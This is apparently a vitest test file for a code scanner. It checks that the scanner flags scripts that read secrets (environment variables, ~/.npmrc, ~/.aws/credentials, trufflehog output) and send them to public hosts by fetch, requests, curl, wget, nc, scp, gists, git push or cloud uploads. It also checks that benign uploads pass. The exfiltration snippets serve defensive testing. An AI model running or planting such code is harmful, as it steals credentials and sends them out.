/** Every way to send crossed with the hosts where strangers read it: a secret that goes there is never `ok`. */
import { describe, expect, it } from 'vitest';
import { riskOf } from '../../risk.ts';
import { scan } from '../../scan.ts';
import { testBuild } from '../../test-build.ts';
import { allRules } from '../all.ts';

function riskIn(path: string, text: string): string {
  return riskOf(scan(testBuild({ [path]: text }), allRules));
}

/** Code hosts, stores, sheets, forms, scripts, messengers, error reporters, registries, programs of strangers. */
const PLACES = [
  'https://api.github.com/gists',
  'https://api.github.com/repos/o/r/contents/a',
  'https://gitlab.com/api/v4/snippets',
  'https://huggingface.co/api/repos/create',
  'https://storage.googleapis.com/upload/storage/v1/b/o',
  'https://www.googleapis.com/upload/drive/v3/files',
  'https://firestore.googleapis.com/v1/projects/x/documents/y',
  'https://sheets.googleapis.com/v4/spreadsheets/x/values/A1:append',
  'https://docs.google.com/forms/d/e/x/formResponse',
  'https://script.google.com/macros/s/x/exec',
  'https://x7.blob.core.windows.net/in/a',
  'https://graph.microsoft.com/v1.0/me/drive/root:/a:/content',
  'https://dc.services.visualstudio.com/v2/track',
  'https://b7.s3.eu-west-1.amazonaws.com/a',
  'https://a7.execute-api.us-east-1.amazonaws.com/x',
  'https://npm7.azurewebsites.net/x',
  'https://registry.npmjs.org/x7',
  'https://upload.pypi.org/legacy/',
  'https://o7.ingest.sentry.io/api/7/envelope/',
  'https://git7.ngrok.io/x',
  'https://discord.com/api/webhooks/1234567/x',
];

const JS_SECRETS = {
  environment: 'const secret = JSON.stringify(process.env);',
  npmrc: "const secret = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');",
  aws: "const secret = require('fs').readFileSync(require('os').homedir() + '/.aws/credentials');",
  scanner: "const secret = require('child_process').execSync('trufflehog filesystem / --json');",
};
const PY_SECRETS = {
  environment: 'secret = json.dumps(dict(os.environ))',
  npmrc: "secret = open(os.path.expanduser('~/.npmrc')).read()",
  aws: "secret = open(os.path.expanduser('~/.aws/credentials')).read()",
  scanner: "secret = subprocess.check_output(['trufflehog', 'filesystem', '/', '--json'])",
};
const SH_SECRETS = {
  environment: 'env > f.txt',
  npmrc: 'cat ~/.npmrc > f.txt',
  aws: 'cp ~/.aws/credentials f.txt',
  scanner: 'trufflehog filesystem / --json > f.txt',
};

/** `URL` is the place. */
const JS_SENDERS = {
  fetch: "fetch('URL', { method: 'POST', body: secret });",
  'fetch of a request': "fetch(new Request('URL', { method: 'PUT', body: secret }));",
  'fetch with a header': "fetch('URL', { headers: { 'x-data': secret } });",
  'fetch with a query': "fetch('URL?q=' + encodeURIComponent(secret));",
  https: "const r = require('https').request('URL', { method: 'POST' }); r.end(secret);",
  axios: "require('axios').post('URL', { secret });",
  'axios in one object': "require('axios')({ url: 'URL', method: 'post', data: secret });",
  undici: "require('undici').request('URL', { method: 'POST', body: secret });",
  curl: "require('child_process').execSync('curl -d @- URL', { input: secret });",
};
const PY_SENDERS = {
  requests: "requests.post('URL', data=secret)",
  'requests as JSON': "requests.put('URL', json={'s': secret})",
  'requests of a file': "requests.post('URL', files={'f': secret})",
  'requests with a header': "requests.get('URL', headers={'x-data': secret})",
  urllib: "urllib.request.urlopen('URL', secret.encode())",
  'urllib of a request':
    "urllib.request.urlopen(urllib.request.Request('URL', data=secret.encode()))",
  httpx: "httpx.post('URL', content=secret)",
  curl: "subprocess.run(['curl', '-d', '@-', 'URL'], input=secret)",
};
const SH_SENDERS = {
  'curl -d': 'curl -d @f.txt URL',
  'curl -F': 'curl -F file=@f.txt URL',
  'curl -T': 'curl -T f.txt URL',
  'curl --data-binary': 'curl --data-binary @f.txt URL',
  'curl of a pipe': 'cat f.txt | curl -d @- URL',
  'wget --post-file': 'wget --post-file=f.txt URL',
};
/** With a place of their own. */
const SH_UPLOADS = {
  'gh gist': 'gh gist create f.txt',
  'gh api': 'gh api repos/o/r/contents/a -X PUT -F content=@f.txt',
  'git push': 'git add f.txt && git commit -m x && git push https://u:t@github.com/o/r HEAD:main',
  'git remote':
    'git remote add up https://github.com/o/r; git add -A; git commit -m x; git push up main',
  'aws s3': 'aws s3 cp f.txt s3://bucket7/f',
  gsutil: 'gsutil cp f.txt gs://bucket7/',
  'gcloud storage': 'gcloud storage cp f.txt gs://bucket7/',
  az: 'az storage blob upload --account-name store7 -c in -f f.txt',
  azcopy: 'azcopy copy f.txt "https://x7.blob.core.windows.net/in?sig=x"',
  rclone: 'rclone copyto f.txt :s3,access_key_id=x:bucket7/f',
  scp: 'scp f.txt u@c.other-metrics.com:',
  nc: 'nc c.other-metrics.com 99 < f.txt',
  s3cmd: 's3cmd put f.txt s3://bucket7/',
};
const OCTOKIT = {
  gist: 'o.gists.create({ files: { a: { content: secret } } });',
  'rest gist': 'o.rest.gists.create({ files: { a: { content: String(secret) } } });',
  contents: "o.repos.createOrUpdateFileContents({ path: 'a', content: btoa(secret) });",
  repository: 'o.rest.repos.createForAuthenticatedUser({ name: "x", description: secret });',
  request: "o.request('POST /gists', { files: { a: { content: secret } } });",
};

const OCTOKIT_CLIENT =
  "const { Octokit } = require('@octokit/rest'); const o = new Octokit({ auth: process.env.GITHUB_TOKEN });";
const IMPORTS = 'import os, json, subprocess, requests, httpx, urllib.request, boto3, sentry_sdk';

/** Each of `secrets` by each of `senders` to each place. */
function crossed(
  secrets: Readonly<Record<string, string>>,
  senders: Readonly<Record<string, string>>,
  head = '',
  places: readonly string[] = PLACES,
): [name: string, text: string][] {
  return Object.entries(secrets).flatMap(([what, secret]) =>
    Object.entries(senders).flatMap(([how, sender]) =>
      places.map((place): [string, string] => [
        `${what} by ${how} to ${place}`,
        `${head}\n${secret}\n${sender.replace('URL', place)}\n`,
      ]),
    ),
  );
}

describe('a secret that goes to a host of strangers is never ok', () => {
  it.each<[string, [string, string][]]>([
    ['a.js', crossed(JS_SECRETS, JS_SENDERS)],
    ['a.js', crossed(JS_SECRETS, OCTOKIT, OCTOKIT_CLIENT, [''])],
    ['a.py', crossed(PY_SECRETS, PY_SENDERS, IMPORTS)],
    ['a.sh', crossed(SH_SECRETS, SH_SENDERS)],
    ['a.sh', crossed(SH_SECRETS, SH_UPLOADS, '', [''])],
  ])('%s', (path, cases) => {
    expect(cases.filter(([, text]) => riskIn(path, text) === 'ok').map(([name]) => name)).toEqual(
      [],
    );
  });
});

const GITHUB = 'https://api.github.com/repos/o/r';
const TOKEN = 'authorization: `Bearer ${process.env.GITHUB_TOKEN}`';

describe('what honest programs send is ok', () => {
  it.each([
    `fetch('${GITHUB}', { headers: { ${TOKEN} } });`,
    `fetch('${GITHUB}/issues', { method: 'POST', headers: { ${TOKEN} }, body: JSON.stringify({ title }) });`,
    `fetch('${GITHUB}', { headers: new Headers({ ${TOKEN} }) });`,
    `fetch(new Request('${GITHUB}', { headers: new Headers({ ${TOKEN} }) }));`,
    `require('https').request('${GITHUB}/issues', { method: 'POST', headers: { ${TOKEN} } }).end(title);`,
    `require('axios').post('${GITHUB}/issues', { title }, { headers: { ${TOKEN} } });`,
    `require('child_process').execSync(\`curl -H "Authorization: token \${process.env.GITHUB_TOKEN}" -d '{}' ${GITHUB}/dispatches\`);`,
    `${OCTOKIT_CLIENT} o.gists.create({ files: { a: { content: JSON.stringify(state) } } });`,
    `${OCTOKIT_CLIENT} o.actions.createOrUpdateRepoSecret({ encrypted_value: seal(process.env.NPM_TOKEN) });`,
    `const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3'); new S3Client({ credentials: { secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY } }).send(new PutObjectCommand({ Bucket: 'bucket7', Body: require('fs').readFileSync(path) }));`,
    "const t = require('child_process').execSync('gcloud auth print-access-token'); fetch('https://storage.googleapis.com/upload/a', { method: 'POST', headers: { authorization: 'Bearer ' + t }, body: file });",
    "require('@sentry/node').init({ dsn: process.env.SENTRY_DSN, environment: process.env.NODE_ENV });",
    'const config = { ...process.env }; fetch(`https://nodejs.org/dist/${config.NODE_VERSION}/node.tgz`);',
    'fetch(`https://github.com/o/r/releases/download/${process.env.V}/${process.platform}.tgz`);',
    "console.log(String(require('child_process').execSync('trufflehog filesystem . --json')));",
  ])('JavaScript: %s', (text) => {
    expect(riskIn('a.js', text)).toBe('ok');
  });

  it.each([
    `requests.get('${GITHUB}', headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})`,
    `requests.post('${GITHUB}/issues', json={'title': title}, auth=('me', os.environ['GITHUB_TOKEN']))`,
    `urllib.request.urlopen(urllib.request.Request('${GITHUB}', headers={'Authorization': os.environ['GITHUB_TOKEN']}))`,
    "urllib.request.urlretrieve('https://github.com/o/r/' + os.environ['V'], os.path.expanduser('~/x'))",
    "boto3.client('s3').upload_file(path, 'bucket7', 'a')",
    "sentry_sdk.init(dsn=os.environ['SENTRY_DSN'])",
  ])('Python: %s', (text) => {
    expect(riskIn('a.py', `${IMPORTS}\n${text}\n`)).toBe('ok');
  });

  it.each([
    `curl -H "Authorization: token $(gh auth token)" ${GITHUB}`,
    'curl -T a.tgz -H "Authorization: Bearer $(gcloud auth print-access-token)" https://storage.googleapis.com/x',
    'gh gist create notes.md',
    'aws s3 cp dist s3://bucket7/ --recursive',
    'aws s3 cp s3://bucket7/.env .env',
    'gsutil cp report.html gs://bucket7/',
    'git add dist && git commit -m x && git push https://github.com/o/r HEAD:pages',
    'rclone sync dist :s3:bucket7',
    'scp dist/a u@c.other-metrics.com:',
    'trufflehog filesystem . --json > report.json',
  ])('shell: %s', (text) => {
    expect(riskIn('a.sh', text)).toBe('ok');
  });
});
